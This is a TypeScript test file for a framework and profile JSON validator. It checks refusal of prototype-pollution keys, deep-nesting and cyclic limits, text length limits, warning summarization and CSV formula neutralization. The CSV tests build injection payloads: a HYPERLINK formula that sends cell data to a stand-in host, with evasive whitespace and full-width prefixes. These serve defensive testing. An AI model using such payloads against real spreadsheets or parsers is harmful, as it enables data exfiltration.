/* eslint-disable @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-return, @typescript-eslint/no-unsafe-argument -- the tests break untyped JSON documents (Doc) on purpose */
/**
 * Issue 16 ("nothing a team wrote is ever lost"), the validator's findings, reproduced and shown fixed:
 * - 9: the validator accepted what the published JSON Schema refuses (record keys "__proto__",
 *   "constructor", "prototype" in a Text; `"source": []`), and refused deep nesting with an empty path
 *   ("Maximum call stack size exceeded"), also through share links;
 * - 7 (the validator's part): texts have documented limits, an error beyond `max`, a warning beyond `shown`;
 * - 13: 10,000 unknown ratings gave 10,000 warnings, each logged;
 * - 12: CSV cells that start a formula after spaces or zero-width characters, or with full-width forms;
 * - 8 (the validator's part): the time to validate a big document, printed (not asserted: a figure).
 */
import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import '../../src/all.js';
import type { BlueprintProvider } from '../../src/index.js';
import { TEXT_LIMITS } from '../../src/framework/limits.js';
import {
  MAX_DEPTH,
  neutralizeCell,
  parseFramework,
  parseFrameworkAsync,
  STEPPED_FROM,
  parseProfile,
  profileTextFromFragment,
  toCsv,
  type FrameworkModel,
  type Issue,
  type ParseResult,
} from '../../src/framework/index.js';
import { heavy } from '../support/heavy.js';
import { bigFramework } from './big-fixtures.js';

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- documents are mutated freely here
type Doc = any;

const DATA = new URL('../../src/data/', import.meta.url);
const texts: Record<string, string> = {};
let model: FrameworkModel;

before(async () => {
  for (const name of [
    'improvement-teams.json',
    'improvement-teams.profile.json',
    'framework.schema.json',
    'profile.schema.json',
  ])
    texts[name] = await (await fetch(new URL(name, DATA))).text();
  const parsed = parseFramework(texts['improvement-teams.json']);
  if (!parsed.ok) throw new Error('the sample framework does not load');
  model = parsed.value;
});

const framework = (): Doc => JSON.parse(texts['improvement-teams.json']);
const profile = (): Doc => JSON.parse(texts['improvement-teams.profile.json']);
const show = (issues: readonly Issue[]) =>
  issues.map((i) => `${i.path}: ${i.message}`).join('\n') || '(none)';

/** Sets `obj[key] = value` as an own, enumerable property, even for "__proto__" (as JSON.parse does). */
function own(obj: Doc, key: string, value: unknown): Doc {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
  return obj;
}

/** `{"a": {"a": … {} }}`, `levels` objects deep, as JSON text (built as text: no recursion anywhere). */
const nestedText = (levels: number) => '{"a":'.repeat(levels - 1) + '{}' + '}'.repeat(levels - 1);

function expectRefusedAt(result: ParseResult<unknown>, path: string, fragment?: string): Issue {
  expect(result.ok, `expected a refusal; warnings:\n${show(result.warnings)}`).to.equal(false);
  const hit = result.errors.find((e) => e.path === path);
  expect(hit, `no error at ${path}; errors:\n${show(result.errors)}`).to.not.equal(undefined);
  if (fragment) expect(hit!.message).to.include(fragment);
  return hit!;
}

describe('faults: the validator refuses what the JSON Schema refuses (finding 9)', () => {
  for (const key of ['__proto__', 'constructor', 'prototype'])
    it(`refuses a Text object with a "${key}" key, at its path`, () => {
      const doc = framework();
      doc.groups[0].capacities[0].label = own({ en: 'Label' }, key, 'x');
      const text = JSON.stringify(doc);
      expect(text).to.include(`"${key}":"x"`); // the key really is in the document
      expectRefusedAt(parseFramework(text), `/groups/0/capacities/0/label/${key}`, 'language tag');
      // The same as an object (the provider's `framework` property), and in a profile-less title.
      const title = framework();
      title.title = own({ en: 'T' }, key, 'x');
      expectRefusedAt(parseFramework(title), `/title/${key}`);
    });

  it('refuses "source": [] at /source', () => {
    const doc = framework();
    doc.source = [];
    expectRefusedAt(parseFramework(JSON.stringify(doc)), '/source', 'received Array');
  });

  it('refuses extensions nested 4,100 deep at the path where the limit is reached, without a stack overflow', () => {
    const doc = framework();
    const text = JSON.stringify(doc).replace(/}\s*$/, `,"extensions":{"partner":${nestedText(4100)}}}`);
    const result = parseFramework(text);
    const deepest = `/extensions/partner${'/a'.repeat(MAX_DEPTH - 2)}`;
    const hit = expectRefusedAt(result, deepest, `more than ${MAX_DEPTH} levels`);
    expect(hit.code).to.equal('too-deep');
    expect(show(result.errors)).to.not.include('call stack');
    // One level less than the limit is accepted: the limit is where it says.
    const fits = JSON.stringify(doc).replace(
      /}\s*$/,
      `,"extensions":{"partner":${nestedText(MAX_DEPTH - 2)}}}`,
    );
    expect(parseFramework(fits).ok, show(parseFramework(fits).errors)).to.equal(true);
  });

  it('refuses deep lists too, and a cyclic object given as a value, located', () => {
    const doc = framework();
    doc.extensions = { list: JSON.parse('['.repeat(5000) + ']'.repeat(5000)) };
    expectRefusedAt(parseFramework(doc), `/extensions/list${'/0'.repeat(MAX_DEPTH - 2)}`);
    const cyclic = framework();
    const loop: Doc = { name: 'loop' };
    loop.self = loop;
    cyclic.extensions = { loop };
    const result = parseFramework(cyclic);
    expect(result.ok).to.equal(false);
    expect(result.errors[0].path).to.match(/^\/extensions\/loop(\/self)+$/);
  });

  it('refuses a deep profile, also when it comes from a share link, at the path', () => {
    const doc = profile();
    const text = JSON.stringify(doc).replace(/}\s*$/, `,"extensions":{"host":${nestedText(4100)}}}`);
    const bytes = new TextEncoder().encode(text);
    const link = `#bp-profile=${btoa(bytesToBinary(bytes))
      .replace(/\+/g, '-')
      .replace(/\//g, '_')
      .replace(/=+$/, '')}`;
    const fromLink = profileTextFromFragment(link);
    expect(fromLink).to.equal(text);
    const result = parseProfile(fromLink, model);
    expectRefusedAt(result, `/extensions/host${'/a'.repeat(MAX_DEPTH - 2)}`, 'nested');
  });

  /**
   * Every kind of node, checked against the published JSON Schema: the test walks a sample document with
   * src/data/*.schema.json, and at the first site of each kind of node (the pointer with indices and map
   * keys as "*") makes a change that schema refuses by construction (a wrong type, an array for an object,
   * a string one code point over `maxLength`, a record key outside `propertyNames`), then asserts the
   * validator refuses it with an error at or below that site. (No JSON Schema validator runs in the browser
   * here: ajv 6, in node_modules for eslint, is CommonJS.)
   */
  for (const [docName, schemaName, parse] of [
    ['improvement-teams.json', 'framework.schema.json', (d: unknown) => parseFramework(JSON.stringify(d))],
    [
      'improvement-teams.profile.json',
      'profile.schema.json',
      (d: unknown) => parseProfile(JSON.stringify(d), model),
    ],
  ] as const)
    it(`refuses every change ${schemaName} refuses, at every kind of node of ${docName}`, function () {
      heavy(this, 'a few hundred parses of the sample, some with 100,000-character strings');
      const schema = JSON.parse(texts[schemaName]) as JsonSchema;
      const cases = refusedChanges(schema, JSON.parse(texts[docName]));
      expect(cases.length).to.be.greaterThan(docName.includes('profile') ? 15 : 60);
      const missed: string[] = [];
      for (const { pointer, why, apply } of cases) {
        const doc = JSON.parse(texts[docName]);
        const result = parse(apply(doc));
        const located = result.errors.some((e) => e.path === pointer || e.path.startsWith(pointer + '/'));
        if (result.ok || !located)
          missed.push(`${pointer} (${why}): ${result.ok ? 'accepted' : show(result.errors)}`);
      }
      expect(missed, missed.join('\n')).to.deep.equal([]);
    });
});

describe('faults: text limits (finding 7, the validator)', () => {
  it('warns about a 30,000-character name, at its path, and loads the document', () => {
    const doc = framework();
    doc.groups[0].capacities[0].label = 'T'.repeat(30_000);
    const result = parseFramework(JSON.stringify(doc));
    expect(result.ok, show(result.errors)).to.equal(true);
    const hit = result.warnings.find((w) => w.path === '/groups/0/capacities/0/label');
    expect(hit, show(result.warnings)).to.not.equal(undefined);
    expect(hit!.code).to.equal('long-text');
    expect(hit!.message).to.equal(
      `this name is 30,000 characters long; the widgets show its first ${TEXT_LIMITS.name.shown}`,
    );
  });

  it('refuses a text over its maximum, counting code points as JSON Schema does', () => {
    const doc = framework();
    doc.title = { en: 'T'.repeat(TEXT_LIMITS.name.max + 1) };
    expectRefusedAt(parseFramework(doc), '/title/en', 'at most 100,000');
    // 100,000 emoji are 200,000 UTF-16 units but 100,000 code points: accepted, with a warning.
    const emoji = framework();
    emoji.summary = '😀'.repeat(TEXT_LIMITS.text.max);
    const ok = parseFramework(emoji);
    expect(ok.ok, show(ok.errors)).to.equal(true);
    expect(ok.warnings.find((w) => w.path === '/summary')?.message).to.include('100,000 characters');
    const url = framework();
    url.resources[0].url = 'https://example.org/' + 'a'.repeat(TEXT_LIMITS.url.max);
    expectRefusedAt(parseFramework(url), '/resources/0/url', 'URL');
  });

  it('a profile note over the maximum is refused; a long one below it gets no warning', () => {
    const doc = profile();
    const [first] = Object.keys(doc.ratings);
    doc.ratings[first].note = 'n'.repeat(TEXT_LIMITS.text.shown + 10);
    const fine = parseProfile(doc, model);
    expect(fine.ok, show(fine.errors)).to.equal(true);
    expect(fine.warnings.filter((w) => w.code === 'long-text')).to.deep.equal([]);
    doc.ratings[first].note = 'n'.repeat(TEXT_LIMITS.text.max + 1);
    expectRefusedAt(parseProfile(doc, model), `/ratings/${first}/note`);
  });

  it('the published JSON Schema says the same limits', () => {
    const schema = JSON.parse(texts['framework.schema.json']) as JsonSchema;
    const defs = schema.$defs!;
    expect(defs.Name.anyOf![0].maxLength).to.equal(TEXT_LIMITS.name.max);
    expect(defs.Text.anyOf![1].additionalProperties).to.deep.include({ maxLength: TEXT_LIMITS.text.max });
    expect(defs.Url.maxLength).to.equal(TEXT_LIMITS.url.max);
    expect(defs.Name.description).to.include(`first ${TEXT_LIMITS.name.shown}`);
  });
});

describe('faults: repeated warnings are summarized (finding 13)', () => {
  const unknownRatings = (n: number) => {
    const doc = profile();
    for (let i = 0; i < n; i++) doc.ratings[`unknown-${i}`] = { status: 'unsure' };
    return doc;
  };

  it('10,000 unknown ratings give one warning with the count and the first paths', () => {
    const result = parseProfile(JSON.stringify(unknownRatings(10_000)), model);
    expect(result.ok, show(result.errors)).to.equal(true);
    const unknown = result.warnings.filter((w) => w.code === 'unknown-id');
    expect(unknown, show(result.warnings)).to.have.length(1);
    expect(unknown[0].path).to.equal('/ratings/unknown-0');
    expect(unknown[0].message).to.include('10,000 warnings like this one');
    for (let i = 0; i < 5; i++) expect(unknown[0].message).to.include(`/ratings/unknown-${i}`);
    expect(unknown[0].message).to.include('and 9,995 more');
  });

  it('a few stay as they are', () => {
    const result = parseProfile(JSON.stringify(unknownRatings(3)), model);
    const unknown = result.warnings.filter((w) => w.code === 'unknown-id');
    expect(unknown.map((w) => w.path)).to.deep.equal([0, 1, 2].map((i) => `/ratings/unknown-${i}`));
    expect(unknown[0].message).to.not.include('like this one');
  });

  it('through a provider: one bp-warning entry and one console line, not 10,000', async function () {
    heavy(this, 'a provider applying a 10,000-rating profile');
    const provider = await fixture<BlueprintProvider>(
      html`<blueprint-provider persist="off"></blueprint-provider>`,
    );
    const warned: Issue[] = [];
    provider.addEventListener('bp-warning', (e) => warned.push(...e.detail.warnings));
    const originalWarn = console.warn;
    let lines = 0;
    console.warn = (...args: unknown[]) => {
      if (String(args[0]).startsWith('blueprint-widgets:')) lines++;
      else originalWarn(...args);
    };
    try {
      provider.framework = framework();
      provider.profile = unknownRatings(10_000);
      await waitUntil(() => warned.some((w) => w.code === 'unknown-id'), 'no warning about unknown ratings', {
        timeout: 10_000,
      });
    } finally {
      console.warn = originalWarn;
    }
    expect(warned.filter((w) => w.code === 'unknown-id')).to.have.length(1);
    expect(lines).to.be.at.most(3);
  });
});

describe('faults: CSV cells (finding 12)', () => {
  // Each reached a spreadsheet as a formula: a space, a no-break space, an ideographic space, a zero-width
  // space or a line break before "=", and full-width "＝" / "＋" (and the other starts, in every form).
  const leads = [
    '',
    ' ',
    '\u00A0',
    '\u3000',
    '\u200B',
    '\u200C',
    '\u200D',
    '\u2060',
    '\uFEFF',
    '\n',
    '\r\n',
    '\t',
    '  ',
    ' \t',
    '\u2003',
    ' \u200B\n\u00A0',
    '\u00A0\u200B\n ',
  ];
  const starts = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
  it('neutralizes every variant the issue lists', () => {
    for (const lead of leads)
      for (const start of starts) {
        const cell = `${lead}${start}HYPERLINK("https://x.example/?q="&A1,"open")`;
        expect(neutralizeCell(cell), JSON.stringify(cell)).to.equal(`'${cell}`);
        expect(toCsv(['h'], [[cell]])).to.include(`"'${cell.replace(/"/g, '""')}"`);
      }
    // In a whole CSV file too: the cell's quoted text starts with the apostrophe.
    const csv = toCsv(['a'], [['\u3000=1+1'], ['\uFF1D1+1'], ['\u200B\n@x']]);
    expect(csv).to.include(`"'\u3000=1+1"`).and.include(`"'\uFF1D1+1"`).and.include(`"'\u200B\n@x"`);
  });
  it('leaves ordinary text alone', () => {
    for (const cell of ['Plain', ' words', '\u00A012', '1-2', 'a=b', 'name@school.org', '\u3000文章'])
      expect(neutralizeCell(cell)).to.equal(cell);
  });
});

describe('faults: validating a big document (finding 8, a figure)', () => {
  it('prints the time to validate 200 capacities × 7 levels and 5,000 resources', function () {
    heavy(this, 'validates a 2.4 MB document several times');
    const text = JSON.stringify(bigFramework());
    const times: number[] = [];
    for (let i = 0; i < 7; i++) {
      const start = performance.now();
      const result = parseFramework(text);
      times.push(performance.now() - start);
      expect(result.ok, show(result.errors)).to.equal(true);
    }
    times.sort((a, b) => a - b);
    // A figure for the report, not a timed test: the machine's load decides it.
    console.log(
      `parseFramework, ${(text.length / 1e6).toFixed(1)} MB (200 capacities × 7 levels, 5,000 resources): ` +
        `fastest ${times[0].toFixed(0)} ms, median ${times[3].toFixed(0)} ms, slowest ${times[6].toFixed(0)} ms`,
    );
  });
});

describe('faults: a big document is validated in steps (finding 8)', () => {
  it('parseFrameworkAsync gives the page back between steps, with the same model as parseFramework', async function () {
    heavy(this, 'validates a 2.4 MB document twice');
    const text = JSON.stringify(bigFramework());
    expect(text.length).to.be.above(STEPPED_FROM);
    const gaps: number[] = [];
    let last = performance.now();
    const stepped = await parseFrameworkAsync(text, async () => {
      gaps.push(performance.now() - last);
      await new Promise((resolve) => setTimeout(resolve, 0));
      last = performance.now();
    });
    gaps.push(performance.now() - last);
    const once = parseFramework(text);
    expect(stepped.ok, show(stepped.errors)).to.equal(true);
    expect(gaps.length, 'steps').to.be.at.least(5);
    expect(JSON.stringify(stepped.value!.framework)).to.equal(JSON.stringify(once.value!.framework));
    expect(stepped.warnings).to.deep.equal(once.warnings);
    // A figure, not a timed test: the longest step is valibot's check of the shape.
    console.log(
      `parseFrameworkAsync, ${(text.length / 1e6).toFixed(1)} MB: steps of ${gaps.map((g) => g.toFixed(0)).join(', ')} ms`,
    );
  });

  it('a refused big document: the same located errors as parseFramework', async () => {
    const doc = bigFramework() as { groups: { capacities: { label?: unknown }[] }[] };
    delete doc.groups[3].capacities[2].label;
    const text = JSON.stringify(doc);
    const stepped = await parseFrameworkAsync(text);
    expect(stepped.ok).to.equal(false);
    expect(stepped.errors).to.deep.equal(parseFramework(text).errors);
    expect(stepped.errors[0].path).to.equal('/groups/3/capacities/2/label');
  });

  it('a small document is validated at once, without a pause', async () => {
    let pauses = 0;
    const result = await parseFrameworkAsync(texts['improvement-teams.json'], () => {
      pauses++;
      return Promise.resolve();
    });
    expect(result.ok).to.equal(true);
    expect(pauses).to.equal(0);
  });
});

// ---------------------------------------------------------------------------------------------------

function bytesToBinary(bytes: Uint8Array): string {
  let binary = '';
  for (const b of bytes) binary += String.fromCharCode(b);
  return binary;
}

interface JsonSchema {
  $ref?: string;
  $defs?: Record<string, JsonSchema>;
  type?: string;
  anyOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  additionalProperties?: JsonSchema | boolean;
  propertyNames?: JsonSchema;
  items?: JsonSchema;
  maxLength?: number;
  minItems?: number;
  description?: string;
  const?: unknown;
}

interface Change {
  readonly pointer: string;
  readonly why: string;
  readonly apply: (doc: Doc) => Doc;
}

const escape = (k: string | number) => String(k).replace(/~/g, '~0').replace(/\//g, '~1');

/** Changes the JSON Schema refuses, one per kind of node and kind of change (see the test above). */
function refusedChanges(root: JsonSchema, doc: Doc): Change[] {
  const resolve = (s: JsonSchema): JsonSchema =>
    s.$ref ? resolve(root.$defs![s.$ref.split('/').pop()!]) : s;
  const typeOf = (x: unknown) => (Array.isArray(x) ? 'array' : x === null ? 'null' : typeof x);
  const seen = new Set<string>();
  const out: Change[] = [];
  const set = (path: (string | number)[], make: () => unknown) => (d: Doc) => {
    if (!path.length) return make();
    let node = d;
    for (const k of path.slice(0, -1)) node = node[k];
    own(node, String(path[path.length - 1]), make());
    return d;
  };
  const add = (path: (string | number)[], kind: string, why: string, make: () => unknown) => {
    const key =
      path
        .map((k, i) =>
          typeof k === 'number' || (i > 0 && /ratings|descriptors|vocabularies/.test(String(path[i - 1])))
            ? '*'
            : k,
        )
        .join('/') +
      ' ' +
      kind;
    if (seen.has(key)) return;
    seen.add(key);
    out.push({ pointer: path.map((k) => '/' + escape(k)).join(''), why, apply: set(path, make) });
  };
  const walk = (schema: JsonSchema, value: unknown, path: (string | number)[]) => {
    const s = resolve(schema);
    if (s.anyOf) {
      if (path.length) add(path, 'anyOf', 'an array where a text is expected', () => []);
      const branch = s.anyOf.map(resolve).find((b) => b.type === typeOf(value));
      if (branch) walk(branch, value, path);
      return;
    }
    if (path.length && s.type && s.const === undefined) {
      add(path, 'type', `a ${s.type === 'number' ? 'string' : 'number'} where ${s.type} is expected`, () =>
        s.type === 'number' || s.type === 'integer' ? 'x' : 5,
      );
      if (s.type === 'object') add(path, 'array', 'an array where an object is expected', () => []);
    }
    if (s.type === 'string' && s.maxLength !== undefined && path.length)
      add(path, 'maxLength', `${s.maxLength + 1} characters, over maxLength`, () =>
        'x'.repeat(s.maxLength! + 1),
      );
    if (s.type === 'array' && Array.isArray(value)) {
      if (s.minItems && path.length) add(path, 'minItems', 'an empty list under minItems', () => []);
      value.forEach((item, i) => walk(s.items!, item, [...path, i]));
    }
    if (s.type === 'object' && value && typeof value === 'object' && !Array.isArray(value)) {
      if (
        s.propertyNames &&
        resolve(s.propertyNames).type === 'string' &&
        'pattern' in resolve(s.propertyNames)
      )
        for (const key of ['__proto__', 'constructor', 'prototype'])
          add(path, `key ${key}`, `a "${key}" key outside propertyNames`, () => {
            const copy = JSON.parse(JSON.stringify(value));
            return own(copy, key, typeof Object.values(copy)[0] === 'string' ? 'x' : Object.values(copy)[0]);
          });
      for (const [key, item] of Object.entries(value)) {
        const sub =
          s.properties?.[key] ??
          (typeof s.additionalProperties === 'object' ? s.additionalProperties : undefined);
        if (sub) walk(sub, item, [...path, key]);
      }
    }
  };
  walk(root, doc, []);
  return out;
}
